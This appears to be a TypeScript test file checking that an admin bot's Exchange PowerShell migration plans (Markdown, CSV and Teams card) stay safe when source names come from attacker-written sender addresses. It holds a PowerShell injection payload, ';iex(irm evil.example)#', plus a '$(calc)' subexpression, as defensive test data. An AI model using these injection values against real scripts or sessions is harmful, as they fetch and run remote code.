/**
 * The attacker names a Direct Send source: its top sender address (which whoever sends writes) becomes the source's
 * name when it is approved, and the name reaches the migration plan an admin pastes into an Exchange session. Over
 * real HTTP: the plan from the configured tenant (GET /api/readiness?format=md|csv), from a posted snapshot, and the
 * bot's card; every generated command must tokenize as PowerShell would, each argument a literal holding its value.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { SUMMARY_COLUMNS } from '../../bot/src/admin/trace/trace-formats';
import { READINESS_CSV_COLUMNS } from '../../bot/src/admin/readiness/render-csv';
import { cardTexts } from '../../bot/test/support/core-harness';
import { csvRecords } from '../../bot/test/support/csv-text';
import { repoRoot } from '../../bot/test/support/fixtures';
import { literalsOf } from '../../bot/test/support/powershell-tokens';
import { startFileServer, type FileServer } from './support/file-server';
import { startServerInTeams, type ServerInTeams } from './support/local-teams';
import { startContosoTenant, TENANT, type MicrosoftTenant } from './support/microsoft-tenant';
import { admin, ADMIN, cardIn, fileAttachment, teamsTurn, type Activity } from './support/teams-turn';

const PAYLOAD = ';iex(irm evil.example)#';
const QUOTES = ["'", '\u2018', '\u2019', '\u201A', '\u201B'];
/** One attacker-written sender address per quote character, each sending from its own /24. */
const HOSTILE_SENDERS = QUOTES.map((q, i) => `x${q}${PAYLOAD}${i}@contoso.com`);
const csvCell = (text: string): string => `"${text.replace(/"/g, '""')}"`;
const traceCsv = [
  SUMMARY_COLUMNS.join(','),
  ...HOSTILE_SENDERS.flatMap((sender, i) =>
    [1, 2].map(
      (n) =>
        `2026-06-0${n}T08:15:00Z,${csvCell(sender)},"ap@contoso.com##Receive, Deliver",Invoice,1200,<m${i}${n}@x>,1f0e7c1a-0000-4000-8000-00000000${i}${n}00,203.0.${113 + i}.7,Incoming,,Normal`,
    ),
  ),
].join('\r\n');

let server: ServerInTeams;
let files: FileServer;
let tenant: MicrosoftTenant;

beforeAll(async () => {
  files = await startFileServer({ 'trace.csv': { type: 'text/csv', body: traceCsv } });
  tenant = await startContosoTenant();
  server = await startServerInTeams(
    {
      ...tenant.vars,
      ADMIN_USER_IDS: ADMIN,
      ACCEPTED_DOMAINS: 'contoso.com',
      PUBLIC_URL: 'https://dsguard.example.com',
    },
    { startOutbox: false },
  );
});
afterAll(async () => {
  await server?.close();
  await files?.close();
  await tenant?.close();
});

const bot = (extra: Record<string, unknown>): Promise<Activity[]> => teamsTurn(server.endpoint(TENANT), admin, extra);

/** The commands of a Markdown plan: the lines of its ```powershell blocks. */
function fencedCommands(markdown: string): string[] {
  const commands: string[] = [];
  let inside = false;
  for (const line of markdown.split('\n')) {
    if (/^\s*```/.test(line)) inside = !inside;
    else if (inside) commands.push(line.trim());
  }
  expect(inside).toBe(false);
  return commands;
}

/** The `powershell` cells of a readiness CSV. */
function csvCommands(csv: string): string[] {
  const records = csvRecords(csv);
  expect(records[0]).toEqual(READINESS_CSV_COLUMNS);
  return records
    .slice(1)
    .map((r) => r[READINESS_CSV_COLUMNS.indexOf('powershell')] ?? '')
    .filter(Boolean);
}

/** Every command parses into safe words and literals; the connectors' names hold only the safe alphabet. */
function expectSafe(commands: readonly string[]): void {
  expect(commands.length).toBeGreaterThan(0);
  for (const command of commands) {
    const literals = literalsOf(command);
    if (/^(?:New|Remove)-InboundConnector/.test(command)) expect(literals[0]).toMatch(/^DSG [A-Za-z0-9 ._@()-]+$/);
  }
}

test('sources named after attacker-written sender addresses: the plan from the tenant, as Markdown, CSV and card, parses safely', async () => {
  await bot({ text: 'import', attachments: [fileAttachment('trace.csv', files.fileUrl('trace.csv'))] });
  // Approved without a name: the source is named after its top sender, the attacker's address.
  for (let i = 0; i < QUOTES.length; i++) await bot({ text: `approve 203.0.${113 + i}.7` });
  const inventory = (await (await fetch(`${server.url}/api/inventory?status=approved`)).json()) as {
    sources: { name: string }[];
  };
  expect(inventory.sources.map((s) => s.name).sort()).toEqual(
    HOSTILE_SENDERS.map((s, i) => `${s} (203.0.${113 + i}.0/24)`).sort(),
  );

  const md = await (await fetch(`${server.url}/api/readiness?format=md`)).text();
  const mdCommands = fencedCommands(md);
  expect(mdCommands.filter((c) => c.startsWith('New-InboundConnector'))).toHaveLength(QUOTES.length);
  expect(mdCommands.filter((c) => c.startsWith('Remove-InboundConnector'))).toHaveLength(QUOTES.length);
  expectSafe(mdCommands);

  const csv = await (await fetch(`${server.url}/api/readiness?format=csv`)).text();
  const fromCsv = csvCommands(csv);
  expect(fromCsv).toHaveLength(QUOTES.length);
  expectSafe(fromCsv);

  const card = cardIn(await bot({ text: 'readiness' }));
  const shownCommands = cardTexts(card)
    .filter((t) => /^(?:New|Remove)-InboundConnector /.test(t))
    .flatMap((t) => t.split('\n\n'));
  expect(shownCommands.length).toBeGreaterThan(0);
  expectSafe(shownCommands);
});

test('a posted snapshot with hostile names, certificate names and sender domains: Markdown and CSV parse safely', async () => {
  const snapshot = JSON.parse(
    readFileSync(path.join(repoRoot, 'bot', 'src', 'admin', 'examples', 'tenant-snapshot.json'), 'utf8'),
  ) as Record<string, any>;
  snapshot.sources = [
    ...QUOTES.map((q, i) => ({
      key: `203.0.${113 + i}.0/24`,
      name: `n${q}${PAYLOAD}\n$(calc)\`n`,
      ips: [`203.0.${113 + i}.7`],
      senders: ['a@contoso.com'],
      status: 'approved',
    })),
    {
      key: '192.0.2.0/24',
      name: 'cert',
      ips: ['192.0.2.9'],
      senders: ['mfp@contoso.com'],
      status: 'to-migrate',
      certificateName: `mfp\u2019${PAYLOAD}.contoso.com`,
    },
  ];
  for (const format of ['md', 'csv'] as const) {
    const res = await fetch(`${server.url}/api/readiness?format=${format}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(snapshot),
    });
    expect(res.status).toBe(200);
    const text = await res.text();
    const commands = format === 'md' ? fencedCommands(text) : csvCommands(text);
    expectSafe(commands);
    const cert = commands.find((c) => c.includes('-TlsSenderCertificateName'))!;
    expect(literalsOf(cert)).toContain(`mfp\u2019${PAYLOAD}.contoso.com`);
  }
});
